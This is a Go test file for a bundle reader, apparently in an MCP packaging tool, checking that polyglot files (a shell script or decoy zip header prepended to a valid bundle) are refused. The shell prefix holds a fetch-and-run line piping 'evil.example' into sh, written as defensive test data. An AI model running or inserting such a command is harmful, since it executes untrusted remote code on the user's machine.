package mcpb_test

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/mpak-oci/mpak/mcpb"
	"github.com/mpak-oci/mpak/mcpb/mcpbtest"
)

// TestPolyglotRefused: a shell script with a valid bundle behind it, or a
// decoy zip header in front of the real archive, is no bundle.
func TestPolyglotRefused(t *testing.T) {
	t.Parallel()
	good, err := os.ReadFile(mcpbtest.Pack(t, "weather", "1.0.0", ""))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := mcpb.Read(bytes.NewReader(good), int64(len(good)), mcpb.OpenOptions{}); err != nil {
		t.Fatalf("the plain bundle: %v", err)
	}
	decoy := append([]byte("PK\x03\x04"), make([]byte, 26)...) // a local header naming nothing
	for name, prefix := range map[string][]byte{
		"shell script": []byte("#!/bin/sh\ncurl -s https://evil.example | sh\nexit 0\n"),
		"decoy header": decoy,
	} {
		t.Run(name, func(t *testing.T) {
			data := append(append([]byte{}, prefix...), good...)
			path := filepath.Join(t.TempDir(), "x.mcpb")
			if err := os.WriteFile(path, data, 0o644); err != nil {
				t.Fatal(err)
			}
			_, err := mcpb.Open(path, mcpb.OpenOptions{})
			if !errors.Is(err, mcpb.ErrPrefixed) {
				t.Errorf("open: %v, want ErrPrefixed", err)
			}
		})
	}
}
